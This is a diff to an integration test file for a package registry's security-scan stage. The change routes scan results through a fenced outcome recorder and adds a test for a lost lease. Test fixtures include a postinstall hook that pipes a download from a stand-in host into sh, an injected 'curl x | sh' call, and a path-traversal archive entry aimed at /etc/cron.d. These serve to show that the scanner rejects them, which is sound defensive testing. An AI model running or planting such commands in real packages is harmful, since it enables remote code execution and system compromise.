@@ -9,11 +9,12 @@ import { latestSecurityScan, latestSecurityScans, stageForWork, Status, type Cla
 import { createTestDatabase, type TestDatabase } from '@spm/db/testing';
 import { buildPackage, startTestRegistry, type BuiltPackage, type TestRegistry } from '@spm/testkit';
 import { loadConfig, type WorkerConfig } from '../../src/config.js';
-import { PermanentError, TransientError } from '../../src/errors.js';
+import { TransientError } from '../../src/errors.js';
 import { importAdvisories } from '../../src/scan/advisory-import.js';
 import type { Finding } from '../../src/scan/types.js';
+import { recordOutcome } from '../../src/outcome.js';
 import { scanStage } from '../../src/stages/scan.js';
-import type { StageContext } from '../../src/stages/types.js';
+import type { StageContext, StageOutcome } from '../../src/stages/types.js';
 
 let t: TestDatabase;
 let registry: TestRegistry;
@@ -126,6 +127,13 @@ function ctxFor(pkg: ClaimedPackage, env: Record<string, string> = {}): StageCon
   return { pkg, signal: new AbortController().signal, log, db: t.db, config, workerId: 'w1' };
 }
 
+/** Runs the scan stage and records its outcome as the worker does (fenced); returns the outcome. */
+async function scanned(ctx: StageContext): Promise<StageOutcome> {
+  const outcome = await scanStage(ctx);
+  expect(await recordOutcome(t.db, ctx.pkg, ctx.workerId, outcome)).toBe(true);
+  return outcome;
+}
+
 beforeAll(async () => {
   t = await createTestDatabase();
   registry = await startTestRegistry();
@@ -147,7 +155,7 @@ afterAll(async () => {
 describe('scan stage against real Postgres', () => {
   it('sends a known-vulnerable version to Pending Approval with the advisory in its findings', async () => {
     const pkg = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.2.3' }));
-    const outcome = await scanStage(ctxFor(pkg));
+    const outcome = await scanned(ctxFor(pkg));
     expect(outcome).toMatchObject({
       kind: 'done',
       via: [Status.SecurityScanned],
@@ -180,7 +188,7 @@ describe('scan stage against real Postgres', () => {
 
   it('does not flag the fixed version', async () => {
     const pkg = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.2.4' }));
-    expect(await scanStage(ctxFor(pkg))).toMatchObject({
+    expect(await scanned(ctxFor(pkg))).toMatchObject({
       kind: 'done',
       to: Status.PendingApproval,
       patch: { security_score: 100, scan_state: 'clean' },
@@ -189,7 +197,7 @@ describe('scan stage against real Postgres', () => {
 
   it('rejects a malware-listed package (policy)', async () => {
     const pkg = await claimed(buildPackage({ name: 'evil-pkg', version: '6.6.6' }));
-    const outcome = await scanStage(ctxFor(pkg));
+    const outcome = await scanned(ctxFor(pkg));
     expect(outcome).toMatchObject({
       kind: 'reject',
       rejection: 'policy',
@@ -209,7 +217,7 @@ describe('scan stage against real Postgres', () => {
     const pkg = await claimed(
       buildPackage({ name: 'clean-pkg', version: '2.0.0', files: { 'lib/a.js': 'module.exports = 1;\n' } }),
     );
-    const outcome = await scanStage(ctxFor(pkg));
+    const outcome = await scanned(ctxFor(pkg));
     expect(outcome).toMatchObject({
       kind: 'done',
       via: [Status.SecurityScanned],
@@ -232,7 +240,7 @@ describe('scan stage against real Postgres', () => {
         manifest: { scripts: { postinstall: 'curl -s https://payload.example.test/i.sh | sh' } },
       }),
     );
-    const outcome = await scanStage(ctxFor(pkg, { SCAN_AUTO_REJECT_SEVERITY: 'high' }));
+    const outcome = await scanned(ctxFor(pkg, { SCAN_AUTO_REJECT_SEVERITY: 'high' }));
     expect(outcome).toMatchObject({ kind: 'reject', rejection: 'policy', patch: { scan_state: 'rejected-by-policy' } });
     expect(outcome.kind === 'reject' && outcome.reason).toMatch(
       /SCAN_AUTO_REJECT_SEVERITY=high: 1 finding\(s\) at or above high: install-script-download-exec \(critical\)/,
@@ -243,13 +251,13 @@ describe('scan stage against real Postgres', () => {
 
   it('approves automatically with WORKER_AUTO_APPROVE only when nothing is medium or above', async () => {
     const clean = await claimed(buildPackage({ name: 'auto-clean', version: '1.0.0' }));
-    expect(await scanStage(ctxFor(clean, { WORKER_AUTO_APPROVE: 'true' }))).toMatchObject({
+    expect(await scanned(ctxFor(clean, { WORKER_AUTO_APPROVE: 'true' }))).toMatchObject({
       kind: 'done',
       via: [Status.SecurityScanned],
       to: Status.Approved,
     });
     const vuln = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.0.0' }));
-    expect(await scanStage(ctxFor(vuln, { WORKER_AUTO_APPROVE: 'true' }))).toMatchObject({
+    expect(await scanned(ctxFor(vuln, { WORKER_AUTO_APPROVE: 'true' }))).toMatchObject({
       kind: 'done',
       to: Status.PendingApproval,
     });
@@ -263,12 +271,14 @@ describe('scan stage against real Postgres', () => {
         extraEntries: [{ path: 'package/../../../etc/cron.d/x', content: 'pwned' }],
       }),
     );
-    const err = await scanStage(ctxFor(pkg)).catch((e: unknown) => e);
-    expect(err).toBeInstanceOf(PermanentError);
-    expect((err as PermanentError).kind).toBe('policy');
-    expect((err as Error).message).toMatch(
-      /hostile archive: entry "package\/\.\.\/\.\.\/\.\.\/etc\/cron\.d\/x" has a '\.\.' path segment/,
-    );
+    const outcome = await scanned(ctxFor(pkg));
+    expect(outcome).toMatchObject({
+      kind: 'reject',
+      rejection: 'policy',
+      reason: expect.stringMatching(
+        /^hostile archive: entry "package\/\.\.\/\.\.\/\.\.\/etc\/cron\.d\/x" has a '\.\.' path segment/,
+      ),
+    });
     expect(await latestSecurityScan(t.db, pkg.packageId)).toMatchObject({
       findings: [expect.objectContaining({ id: 'archive-refused', severity: 'critical' })],
     });
@@ -278,12 +288,17 @@ describe('scan stage against real Postgres', () => {
     const pkg = await claimed(
       buildPackage({ name: 'too-many', version: '1.0.0', files: { 'a.js': '1', 'b.js': '2' } }),
     );
-    const err = await scanStage(ctxFor(pkg, { SCAN_MAX_ENTRIES: '3' })).catch((e: unknown) => e);
-    expect(err).toBeInstanceOf(PermanentError);
-    expect((err as PermanentError).kind).toBe('policy');
-    expect((err as Error).message).toBe(
-      'archive over a hard limit: the archive has more than 3 entries: over the limit of 3 (SCAN_MAX_ENTRIES=3)',
-    );
+    expect(await scanned(ctxFor(pkg, { SCAN_MAX_ENTRIES: '3' }))).toMatchObject({
+      kind: 'reject',
+      rejection: 'policy',
+      reason:
+        'archive over a hard limit: the archive has more than 3 entries: over the limit of 3 (SCAN_MAX_ENTRIES=3)',
+    });
+    expect(await latestSecurityScan(t.db, pkg.packageId)).toMatchObject({
+      findings: [
+        expect.objectContaining({ id: 'archive-refused', evidence: expect.stringContaining('SCAN_MAX_ENTRIES=3') }),
+      ],
+    });
   });
 
   // Issue 11, finding 1: a harmless package/index.js replaced on install by zzz/index.js.
@@ -296,7 +311,7 @@ describe('scan stage against real Postgres', () => {
         extraEntries: [{ path: 'zzz/index.js', content: 'require("child_process").execSync("curl x | sh");\n' }],
       }),
     );
-    const outcome = await scanStage(ctxFor(pkg, { SCAN_AUTO_REJECT_SEVERITY: 'high' }));
+    const outcome = await scanned(ctxFor(pkg, { SCAN_AUTO_REJECT_SEVERITY: 'high' }));
     expect(outcome).toMatchObject({ kind: 'reject', rejection: 'policy' });
     const findings = (await latestSecurityScan(t.db, pkg.packageId))!.findings as Finding[];
     expect(findings).toEqual(
@@ -327,7 +342,7 @@ describe('scan stage against real Postgres', () => {
         ],
       }),
     );
-    const outcome = await scanStage(ctxFor(pkg));
+    const outcome = await scanned(ctxFor(pkg));
     expect(outcome).toMatchObject({ kind: 'done', to: Status.PendingApproval, patch: { scan_state: 'findings' } });
     const findings = (await latestSecurityScan(t.db, pkg.packageId))!.findings as Finding[];
     expect(findings).toEqual(
@@ -342,17 +357,34 @@ describe('scan stage against real Postgres', () => {
     );
   });
 
+  // Issue 11, finding 9: the scan is written by the fenced completion, or not at all.
+  it('writes no scan when the lease was taken over while scanning', async () => {
+    const pkg = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.0.1' }));
+    const outcome = await scanStage(ctxFor(pkg));
+    expect(outcome).toMatchObject({ kind: 'done', scan: expect.objectContaining({ packageId: pkg.packageId }) });
+    expect(await latestSecurityScan(t.db, pkg.packageId)).toBeNull();
+    await t.db.updateTable('package_status').set({ locked_by: 'w2' }).where('package_id', '=', pkg.packageId).execute();
+    expect(await recordOutcome(t.db, pkg, 'w1', outcome)).toBe(false);
+    expect(await latestSecurityScan(t.db, pkg.packageId)).toBeNull();
+    const row = await t.db
+      .selectFrom('package_status')
+      .select(['status', 'locked_by', 'security_score'])
+      .where('package_id', '=', pkg.packageId)
+      .executeTakeFirstOrThrow();
+    expect(row).toEqual({ status: Status.SecurityScanning, locked_by: 'w2', security_score: null });
+  });
+
   it('sends a package whose tarball vanished from the cache back to be downloaded', async () => {
     const pkg = await claimed(buildPackage({ name: 'vanished', version: '1.0.0' }), {
       storageKey: 'sha512/00/missing.tgz',
     });
-    expect(await scanStage(ctxFor(pkg))).toMatchObject({ kind: 'done', to: Status.LicenceChecked });
+    expect(await scanned(ctxFor(pkg))).toMatchObject({ kind: 'done', to: Status.LicenceChecked });
   });
 
   it('records the registry comparison as unavailable when the registry cannot answer', async () => {
     const pkg = await claimed(buildPackage({ name: 'no-registry', version: '1.0.0' }));
     registry.failNext(/^\/no-registry$/, 1, 404);
-    const outcome = await scanStage(ctxFor(pkg));
+    const outcome = await scanned(ctxFor(pkg));
     expect(outcome).toMatchObject({ kind: 'done', to: Status.PendingApproval, patch: { scan_state: 'clean' } });
     const scan = await latestSecurityScan(t.db, pkg.packageId);
     expect(scan!.findings).toEqual([
@@ -373,7 +405,7 @@ describe('scan stage against real Postgres', () => {
     it('merges Trivy findings with the built-in ones and records both scanners', async () => {
       process.env.FAKE_TRIVY_MODE = 'ok';
       const pkg = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.1.0' }));
-      const outcome = await scanStage(ctxFor(pkg, trivyEnv));
+      const outcome = await scanned(ctxFor(pkg, trivyEnv));
       expect(outcome).toMatchObject({ kind: 'done', to: Status.PendingApproval });
       const scan = await latestSecurityScan(t.db, pkg.packageId);
       expect(
